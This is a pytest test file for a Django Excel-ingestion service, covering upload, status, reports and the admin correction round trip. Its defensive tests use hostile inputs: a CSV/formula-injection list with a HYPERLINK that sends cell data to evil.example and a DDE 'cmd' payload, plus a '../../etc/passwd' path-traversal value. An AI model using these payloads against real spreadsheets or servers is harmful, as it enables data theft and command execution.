"""Ingestion API (upload → 202 → status → report) and the steward's admin triage."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from ingestion import labels
from ingestion.models import IngestionRun, Reject
from tests.ingestion.builders import base_rows, write_workbook

pytestmark = pytest.mark.django_db


def _upload(client, path, **extra):
    with open(path, "rb") as handle:
        upload = SimpleUploadedFile(path.name, handle.read(), content_type="application/octet-stream")
    return client.post("/api/ingestion/run", {"file": upload, **extra}, format="multipart")


def test_upload_requires_api_key(anonymous_api_client, empty_tables, tmp_path):
    response = _upload(anonymous_api_client, write_workbook(tmp_path / "wb.xlsx"))
    assert response.status_code in (401, 403)
    assert IngestionRun.objects.count() == 0


def test_upload_runs_and_reports(keyed_client, empty_tables, tmp_path, django_capture_on_commit_callbacks):
    rows = base_rows()
    rows["OrdemFabricoErros"].append(["x", 1000, 3, 9, None, None])
    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(keyed_client, write_workbook(tmp_path / "Folha_IA.xlsx", rows))
    assert response.status_code == 202, response.content
    run_id = response.json()["run_id"]
    status = keyed_client.get(f"/api/ingestion/status/{run_id}").json()
    assert status["status"] == "succeeded" and status["file_name"] == "Folha_IA.xlsx"
    assert status["progress"]["FasesOrdemFabrico"]["stage"] == "done"
    report = keyed_client.get(f"/api/ingestion/report/{run_id}").json()
    assert report["rejects_by_reason"] == [{"sheet": "OrdemFabricoErros", "reason": "bad_severity", "rows": 1}]
    sheets = {s["sheet"]: s for s in report["sheets"]}
    assert sheets["OrdensFabrico"]["rows_loaded"] == 3 and sheets["OrdensFabrico"]["reconciled"]
    assert report["admin_rejects_url"].endswith(f"run__id__exact={run_id}")


def test_upload_of_a_non_workbook_is_refused(keyed_client, empty_tables):
    bogus = SimpleUploadedFile("orders.xlsx", b"not a zip at all", content_type="application/octet-stream")
    response = keyed_client.post("/api/ingestion/run", {"file": bogus}, format="multipart")
    assert response.status_code == 400 and "not an Excel workbook" in response.json()["detail"]
    csv = SimpleUploadedFile("orders.csv", b"a,b", content_type="text/csv")
    assert "not an .xlsx" in keyed_client.post("/api/ingestion/run", {"file": csv}, format="multipart").json()["detail"]


def test_second_request_while_one_is_pending_is_told_already_running(keyed_client, empty_tables, tmp_path):
    pending = IngestionRun.objects.create(file_name="queued.xlsx", status="pending")
    response = _upload(keyed_client, write_workbook(tmp_path / "wb.xlsx"))
    assert response.status_code == 409
    assert response.json()["detail"] == f"already running: run {pending.pk}"


def test_broker_down_answers_503_and_fails_the_run_instead_of_leaving_it_pending(keyed_client, empty_tables, tmp_path,
                                                                                  broker_down):
    response = _upload(keyed_client, write_workbook(tmp_path / "wb.xlsx"))
    assert response.status_code == 503 and response.json()["component"] == "task queue", response.content
    assert "nothing was queued" in response.json()["detail"]
    run = IngestionRun.objects.get()
    assert run.status == "failed" and run.error.startswith("task queue unavailable") and run.finished_at
    again = _upload(keyed_client, write_workbook(tmp_path / "wb.xlsx"))
    assert again.status_code == 503  # not "409 already running" for a run that nothing will ever execute
    assert IngestionRun.objects.filter(status="pending").count() == 0


def test_inbox_name_must_be_inside_the_inbox(keyed_client, empty_tables, settings, tmp_path):
    settings.INBOX_DIR = tmp_path
    response = keyed_client.post("/api/ingestion/run", {"inbox_name": "../../etc/passwd"}, format="json")
    assert response.status_code == 400 and "not a file in the inbox" in response.json()["detail"]




@pytest.fixture
def rejected_run(empty_tables, tmp_path):
    from ingestion.services import ingest_workbook

    rows = base_rows()
    rows["OrdensFabrico"].append([1003, "not a date", None, 10, 1, None])
    rows["OrdemFabricoErros"].append(["x", 1000, 3, 9, None, None])
    rows["FuncionariosFaseOrdemFabrico"].append([5000, 100, 1])  # duplicate key
    return ingest_workbook(path=str(write_workbook(tmp_path / "wb.xlsx", rows)))


def test_admin_reject_changelist_counts_and_readable_row(steward_client, rejected_run):
    response = steward_client.get(f"/admin/ingestion/reject/?run__id__exact={rejected_run.pk}")
    assert response.status_code == 200
    body = response.content.decode()
    assert "bad_severity" in body and 'href="/ingestion/"' in body
    assert f"<td class=\"field-run_number\">#{rejected_run.pk}</td>" in body  # short run column, message shown
    assert Reject.objects.get(run=rejected_run, reason="bad_severity").message in body
    reject = Reject.objects.get(run=rejected_run, reason="bad_date")
    detail = steward_client.get(f"/admin/ingestion/reject/{reject.pk}/change/").content.decode()
    assert "not a date" in detail and "Of_DataCriacao" in detail and "is not a date" in detail


def test_admin_data_quality_list_reads_as_rates_and_runs(steward_client, rejected_run):
    from ingestion.models import DataQualityIssue

    rated = DataQualityIssue.objects.filter(measured__isnull=False).first()
    assert rated is not None, "the fixture's workbook names unknown products: a match-rate issue"
    body = steward_client.get("/admin/ingestion/dataqualityissue/?status__exact=open").content.decode()
    assert f'<td class="field-match_rate">{rated.measured:.1%}</td>' in body
    assert f'<td class="field-first_seen">#{rejected_run.pk}</td>' in body
    sheet, column = rated.entity.split(".")
    assert f'<td class="field-sheet_column">{sheet}.<wbr>{column}</td>' in body


def test_admin_acknowledge_needs_confirmation_and_counts(steward_client, rejected_run):
    ids = list(Reject.objects.filter(run=rejected_run).values_list("pk", flat=True))
    url = "/admin/ingestion/reject/"
    first = steward_client.post(url, {"action": "acknowledge", "_selected_action": ids})
    assert first.status_code == 200 and "Yes, I am sure" in first.content.decode()
    assert Reject.objects.filter(status="acknowledged").count() == 0
    done = steward_client.post(url, {"action": "acknowledge", "_selected_action": ids, "confirm": "yes"}, follow=True)
    assert f"{len(ids)} rejects marked as “Acknowledged”." in done.content.decode()
    assert Reject.objects.filter(status="acknowledged").count() == len(ids)


def test_admin_export_keeps_original_headers(steward_client, rejected_run):
    ids = list(Reject.objects.filter(run=rejected_run).values_list("pk", flat=True))
    response = steward_client.post("/admin/ingestion/reject/", {"action": "export_xlsx", "_selected_action": ids})
    assert response.status_code == 200 and response["X-Exported-Rows"] == str(len(ids))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["OrdensFabrico"]
    header, row = [c.value for c in sheet[1]], [c.value for c in sheet[2]]
    assert header[:6] == ["Of_Id", "Of_DataCriacao", "Of_DataAcabamento", "Of_ProdutoId", "Of_FaseId", "Of_DataTransporte"]
    assert header[-4:] == ["Excel row", "Reason", "Problem", "_reject_id"]  # the steward's English client
    reject = Reject.objects.get(run=rejected_run, sheet="OrdensFabrico", reason="bad_date")
    with translation.override("en"):
        reason, problem = labels.reject_reason("bad_date"), labels.reject_message(reject.message)
    assert reason != "bad_date" and problem  # words, not the code
    assert row[0] == 1003 and row[1] == "not a date" and row[-3:] == [reason, problem, reject.pk]


def _exported(steward_client, ids) -> io.BytesIO:
    response = steward_client.post("/admin/ingestion/reject/", {"action": "export_xlsx", "_selected_action": ids})
    return io.BytesIO(response.content)


def _import(steward_client, workbook, **extra):
    from django.core.files.uploadedfile import SimpleUploadedFile

    stream = io.BytesIO()
    workbook.save(stream)
    upload = SimpleUploadedFile("fixed.xlsx", stream.getvalue())
    return steward_client.post("/admin/ingestion/reject/import-corrections/", {"corrections": upload}, follow=True, **extra)


def _report(steward_client) -> list[list[str]]:
    """The last corrections import's downloadable report, read back as CSV rows."""
    import csv

    response = steward_client.get("/admin/ingestion/reject/import-corrections/report.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_fixed_in_excel_and_imported_back_stores_the_rows_that_now_pass(steward_client, rejected_run):
    from orders.models import ManufacturingOrder

    bad_date = Reject.objects.get(run=rejected_run, sheet="OrdensFabrico", reason="bad_date")
    severity = Reject.objects.get(run=rejected_run, reason="bad_severity")
    workbook = load_workbook(_exported(steward_client, [bad_date.pk, severity.pk]))
    orders = workbook["OrdensFabrico"]
    assert orders.cell(2, 1).value == 1003
    orders.cell(2, 2).value = "2025-03-04 10:30:00"  # the steward types the right creation date
    errors = workbook["OrdemFabricoErros"]
    errors.cell(2, 1).value = "Bolha no gelcoat"  # edits the description, leaves the severity (9) wrong
    assert not ManufacturingOrder.objects.filter(pk=1003).exists()

    page = _import(steward_client, workbook).content.decode()
    assert "1 corrected row stored and its reject resolved; 1 still fails; 0 skipped." in page
    assert page.count('class="success"') == 1 and 'class="warning"' not in page  # one summary, no warning per row
    report = _report(steward_client)
    assert report[0] == ["sheet", "file row", "reject", "result", "reason"]
    assert sorted(report[1:]) == sorted([["OrdensFabrico", "2", str(bad_date.pk), "stored, reject resolved", ""],
                                         ["OrdemFabricoErros", "2", str(severity.pk), "still rejected",
                                          "Severity outside 1..3"]])  # the reason in words
    stored = ManufacturingOrder.objects.get(pk=1003)
    assert stored.created_at.isoformat().startswith("2025-03-04T10:30:00")  # Lisbon local time, as read
    bad_date.refresh_from_db()
    severity.refresh_from_db()
    assert bad_date.status == "resolved" and bad_date.corrected["Of_DataCriacao"] == "2025-03-04 10:30:00"
    assert bad_date.original["Of_DataCriacao"] == "not a date"  # what the workbook held stays as read
    assert severity.status == "open" and severity.corrected["Erro_Descricao"] == "Bolha no gelcoat"
    again = _import(steward_client, workbook).content.decode()  # the same file twice: nothing new
    assert "0 corrected rows stored" in again and "1 still fails; 1 skipped." in again
    assert ["OrdensFabrico", "2", str(bad_date.pk), "skipped", "already resolved"] in _report(steward_client)
    assert ManufacturingOrder.objects.filter(pk=1003).count() == 1


FORMULA_TEXTS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
                 "\tTab", "\rCR")


def test_rejects_export_writes_formula_like_text_as_text_and_imports_it_back(steward_client, rejected_run):
    """Workbook text that a spreadsheet would run as a formula goes out as text and comes back unchanged (review)."""
    import zipfile

    from quality.models import QualityError

    severity = Reject.objects.get(run=rejected_run, reason="bad_severity")
    severity.original["Erro_Descricao"] = FORMULA_TEXTS[0]
    severity.save()
    others = []
    for number, text in enumerate(FORMULA_TEXTS[1:], start=100):
        other = Reject.objects.get(pk=severity.pk)
        other.pk, other.row_number, other.identity = None, number, f"{severity.identity}#{number}"  # one live per identity
        other.original = {**severity.original, "Erro_Descricao": text}
        other.save()
        others.append(other)
    ids = [severity.pk, *(o.pk for o in others)]
    content = _exported(steward_client, ids).getvalue()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    workbook = load_workbook(io.BytesIO(content))
    errors = workbook["OrdemFabricoErros"]
    header = [c.value for c in errors[1]]
    column = header.index("Erro_Descricao") + 1
    texts = [errors.cell(r, column) for r in range(2, errors.max_row + 1)]
    assert [c.value for c in texts] == list(FORMULA_TEXTS) and {c.data_type for c in texts} == {"s"}
    for row in range(2, errors.max_row + 1):
        errors.cell(row, header.index("OFCH_GRAVIDADE") + 1).value = 2  # the steward fixes the severity only
    page = _import(steward_client, workbook).content.decode()
    assert f"{len(FORMULA_TEXTS)} corrected rows stored" in page, page
    stored = set(QualityError.objects.filter(order_id=1000).values_list("description", flat=True))
    assert {t.strip() for t in FORMULA_TEXTS} <= stored


def test_a_datetime_with_fractional_seconds_survives_the_rejects_round_trip(steward_client, empty_tables, tmp_path):
    """A rejected row's real datetime (with milliseconds) is exported and imported back as the same instant (review)."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from ingestion.services import ingest_workbook
    from orders.models import ManufacturingOrder

    rows = base_rows()
    rows["OrdensFabrico"].append([1003, datetime(2021, 1, 14, 3, 43, 50, 371000), "not a date", 10, 1, None])
    run = ingest_workbook(path=str(write_workbook(tmp_path / "wb.xlsx", rows)))
    reject = Reject.objects.get(run=run, sheet="OrdensFabrico", reason="bad_date")
    assert "." in reject.original["Of_DataCriacao"]  # e.g. 2021-01-14T03:43:50.371000
    workbook = load_workbook(_exported(steward_client, [reject.pk]))
    workbook["OrdensFabrico"].cell(2, 3).value = "2021-01-20 10:00:00"  # the steward fixes the finish date only
    page = _import(steward_client, workbook).content.decode()
    assert "1 corrected row stored and its reject resolved; 0 still fail" in page, page
    created = ManufacturingOrder.objects.get(pk=1003).created_at.astimezone(ZoneInfo("Europe/Lisbon")).replace(tzinfo=None)
    assert abs((created - datetime(2021, 1, 14, 3, 43, 50, 371000)).total_seconds()) < 0.01  # Lisbon local, as read


def test_a_corrections_file_without_its_headers_changes_nothing(steward_client, rejected_run):
    bad_date = Reject.objects.get(run=rejected_run, sheet="OrdensFabrico", reason="bad_date")
    workbook = load_workbook(_exported(steward_client, [bad_date.pk]))
    sheet = workbook["OrdensFabrico"]
    sheet.cell(2, 2).value = "2025-03-04 10:30:00"
    sheet.delete_cols(sheet.max_column)  # _reject_id gone
    response = _import(steward_client, workbook)
    assert response.status_code == 400
    assert "Nothing was imported: sheet OrdensFabrico: missing column(s) _reject_id." in response.content.decode()
    bad_date.refresh_from_db()
    assert bad_date.status == "open" and bad_date.corrected is None
    not_xlsx = steward_client.post("/admin/ingestion/reject/import-corrections/",
                                   {"corrections": SimpleUploadedFile("notes.xlsx", b"hello")})
    assert not_xlsx.status_code == 400 and "not an .xlsx workbook" in not_xlsx.content.decode()


def test_revalidate_stores_rows_that_now_pass(steward_client, rejected_run):
    from django.db import connection

    reject = Reject.objects.get(run=rejected_run, reason="bad_severity")
    # The steward fixed the severity upstream; simulate the corrected original row being re-checked.
    reject.original["OFCH_GRAVIDADE"] = 2
    reject.save()
    duplicate = Reject.objects.get(run=rejected_run, reason="duplicate_key")
    response = steward_client.post(
        "/admin/ingestion/reject/",
        {"action": "revalidate", "_selected_action": [reject.pk, duplicate.pk], "confirm": "yes"}, follow=True,
    )
    assert "1 reject now passes and was stored; 1 still fails." in response.content.decode()
    reject.refresh_from_db()
    assert reject.status == "resolved"
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM quality_qualityerror WHERE order_id = 1000 AND description = 'x'")
        assert cursor.fetchone()[0] == 1


def test_a_refused_upload_is_not_kept_on_disk(keyed_client, empty_tables, tmp_path, settings):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    IngestionRun.objects.create(file_name="queued.xlsx", status="pending")
    assert _upload(keyed_client, write_workbook(tmp_path / "wb.xlsx")).status_code == 409
    assert list(settings.UPLOAD_DIR.glob("*")) == []


def test_uploads_are_pruned_after_the_retention_but_never_while_their_run_waits(empty_tables, tmp_path, settings):
    import os
    import time

    from ingestion.uploads import uploads_prune

    settings.UPLOAD_DIR = tmp_path / "uploads"
    settings.UPLOAD_RETENTION_HOURS = 24
    settings.UPLOAD_DIR.mkdir()
    old = time.time() - 48 * 3600
    files = {name: settings.UPLOAD_DIR / f"{name}.xlsx" for name in ("old_done", "old_pending", "fresh")}
    for name, path in files.items():
        path.write_bytes(b"PK\x03\x04" + b"x" * 100)
        if name.startswith("old"):
            os.utime(path, (old, old))
    IngestionRun.objects.create(file_name="a.xlsx", file_path=str(files["old_done"]), status="succeeded")
    IngestionRun.objects.create(file_name="b.xlsx", file_path=str(files["old_pending"]), status="pending")
    result = uploads_prune()
    assert result["deleted"] == 1 and result["bytes_freed"] == 104
    assert sorted(p.stem for p in settings.UPLOAD_DIR.glob("*.xlsx")) == ["fresh", "old_pending"]


def test_a_failed_run_names_the_file_as_uploaded_not_as_stored(keyed_client, empty_tables, tmp_path, settings,
                                                                django_capture_on_commit_callbacks):
    settings.UPLOAD_DIR = tmp_path / "uploads"
    broken = SimpleUploadedFile("Folha_IA março.xlsx", b"PK\x03\x04 truncated, not really a zip",
                                content_type="application/octet-stream")
    with django_capture_on_commit_callbacks(execute=True):
        response = keyed_client.post("/api/ingestion/run", {"file": broken}, format="multipart")
    assert response.status_code == 202, response.content
    run = IngestionRun.objects.get(pk=response.json()["run_id"])
    stored = Path(run.file_path).name
    assert run.status == "failed" and "Folha_IA março.xlsx" in run.error and stored not in run.error
    status = keyed_client.get(f"/api/ingestion/status/{run.pk}").json()
    assert stored not in str(status)


def test_a_pending_run_no_worker_picked_up_is_failed_and_does_not_block_the_next_upload(
        keyed_client, empty_tables, tmp_path, settings):
    from datetime import timedelta

    from django.utils import timezone

    from ingestion.services import PENDING_RUN_PICKUP_SECONDS

    settings.UPLOAD_DIR = tmp_path / "uploads"
    lost = IngestionRun.objects.create(file_name="lost.xlsx", status="pending")
    IngestionRun.objects.filter(pk=lost.pk).update(
        created_at=timezone.now() - timedelta(seconds=PENDING_RUN_PICKUP_SECONDS + 60))
    response = _upload(keyed_client, write_workbook(tmp_path / "wb.xlsx"))
    assert response.status_code == 202, response.content
    lost.refresh_from_db()
    assert lost.status == "failed" and "no worker started this run" in lost.error and lost.finished_at


def test_every_enqueue_failure_is_queue_unavailable_naming_the_cause():
    from redis.exceptions import ConnectionError as RedisConnectionError

    from prodplan.task_queue import QueueUnavailable, enqueue

    class _Task:
        """A task whose queueing fails the way Celery does when Redis goes away (the failure is the input here)."""

        name = "tests.failing"

        def __init__(self, error):
            self.error = error

        def delay(self, *args, **kwargs):
            raise self.error

    lost_result_store = RuntimeError("\nRetry limit exceeded while trying to reconnect to the Celery result store\n"
                                     "backend. The Celery application must be restarted.\n")
    for error in (lost_result_store, RedisConnectionError("Connection refused"), ConnectionRefusedError(111, "refused")):
        with pytest.raises(QueueUnavailable) as raised:
            enqueue(_Task(error))
        assert "task queue unavailable" in str(raised.value)
    with pytest.raises(RuntimeError):  # a bug is not an outage
        enqueue(_Task(RuntimeError("division by zero in the task's arguments")))
